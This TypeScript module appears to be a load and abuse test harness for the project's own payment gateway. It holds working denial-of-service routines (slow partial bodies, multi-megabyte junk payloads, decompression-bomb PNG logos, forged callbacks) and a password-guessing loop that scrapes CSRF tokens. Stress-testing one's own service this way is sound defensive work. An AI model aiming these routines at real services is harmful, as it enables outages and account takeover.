// What strangers do to a gateway to stop it, each from addresses of their own. The rates are those of the security review.

import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { PATHS } from '../client.ts';
import { type Shop, signBody } from '../shop.ts';
import { sendRaw } from '../strangers.ts';
import { atRate, createSender } from './requests.ts';

export type Target = {
  url: string;
  /** An integration of another holder, which sends the logos. */
  neighbour: Pick<Shop, 'clientId' | 'title' | 'secretKey'>;
  millis: () => number;
  /** From `drawLogos`: drawn before the attack begins, because that takes this machine seconds and the gateway nothing. */
  pictures: readonly string[];
};

/** Attacks until the signal. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_TYPE = { 'content-type': 'application/json' };
const MEGABYTES_3 = 2_900_000;

/** Half a body and then nothing, on 1,100 sockets that are renewed every ten seconds. */
async function slowBodies({ url }: Target, signal: AbortSignal): Promise<void> {
  const head = `POST ${PATHS.collect} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60\r\n\r\n{`;
  await atRate(110, signal, async (index) => {
    const { socket } = await sendRaw(url, head, `127.0.1.${1 + (index % 4)}`);
    socket.setTimeout(10_000, () => socket.destroy());
    signal.addEventListener('abort', () => socket.destroy());
  });
}

/** Five megabytes a second: forms of nothing but separators, and links of a client that does not exist. */
async function largeBodies({ url }: Target, signal: AbortSignal): Promise<void> {
  const sender = createSender(url, '127.0.2.1');
  const link = `{"client_id":"client_unknown","params":{"logo":"${'😀'.repeat(MEGABYTES_3 / 4)}"}}`;
  const bodies: [string, string, Record<string, string>][] = [
    ['/console/sign-in', '&'.repeat(2_000_000), FORM],
    [PATHS.createLink, link, JSON_TYPE],
    ['/console/links', '='.repeat(2_000_000), FORM],
  ];
  await atRate(2, signal, (index) => {
    const [path, body, headers] = bodies[index % bodies.length] ?? ['/', '', {}];
    return sender.send('POST', path, body, headers);
  });
  sender.close();
}

/** Callbacks that no operator signed, to rails that exist and to others. */
async function operatorCallbacks({ url }: Target, signal: AbortSignal): Promise<void> {
  const senders = [1, 2].map((number) => createSender(url, `127.0.3.${number}`));
  const body = JSON.stringify({ event: 'payment', note: 'x'.repeat(16_000) });
  await atRate(300, signal, async (index) => {
    const rail = index % 3 === 0 ? 'sandbox' : `rail${index}`;
    await senders[index % senders.length]?.send('POST', `/operators/${rail}`, body, JSON_TYPE);
  });
  for (const sender of senders) sender.close();
}

/** Guesses of passwords, from several addresses and for several people. */
async function signInGuesses({ url }: Target, signal: AbortSignal): Promise<void> {
  const senders = [1, 2, 3, 4].map((number) => createSender(url, `127.0.4.${number}`));
  const page = await senders[0]?.send('GET', '/console/sign-in');
  const csrf = /name="csrf" value="([^"]+)"/.exec(page?.body ?? '')?.[1] ?? '';
  const cookie = String(page?.headers['set-cookie'] ?? '').split(';')[0] ?? '';
  await atRate(30, signal, async (index) => {
    const fields = { csrf, email: `person${index % 5}@example.org`, password: `guess ${index}` };
    const body = new URLSearchParams(fields).toString();
    await senders[index % senders.length]?.send('POST', '/console/sign-in', body, { ...FORM, cookie });
  });
  for (const sender of senders) sender.close();
}

/** Pictures that are slow to decode, in base64. */
export async function drawLogos(): Promise<string[]> {
  const sizes = [
    { width: 1, height: 16_777_216 },
    { width: 2_000, height: 2_000 },
  ];
  return Promise.all(
    sizes.map(async ({ width, height }) => {
      const raw = { width, height, channels: 1 } as const;
      const pixels = Buffer.alloc(width * height, randomBytes(64));
      const picture = sharp(pixels, { raw, limitInputPixels: false }).png({ progressive: width > 1 });
      return (await picture.toBuffer()).toString('base64');
    }),
  );
}

/** Logos that are slow to decode, signed by another holder of the gateway. */
async function logos({ url, neighbour, millis, pictures }: Target, signal: AbortSignal): Promise<void> {
  const sender = createSender(url, '127.0.5.1');
  await atRate(2, signal, async (index) => {
    const params = { currency: 'UGX', country_id: 11, amount: '25000', business_name: 'x', item_name: 'x' };
    const body = signBody(neighbour, millis(), { ...params, logo: pictures[index % pictures.length] ?? '' });
    await sender.send('POST', PATHS.createLink, JSON.stringify(body), JSON_TYPE);
  });
  sender.close();
}

export const ATTACKS: Record<string, Attack> = { slowBodies, largeBodies, operatorCallbacks, signInGuesses, logos };
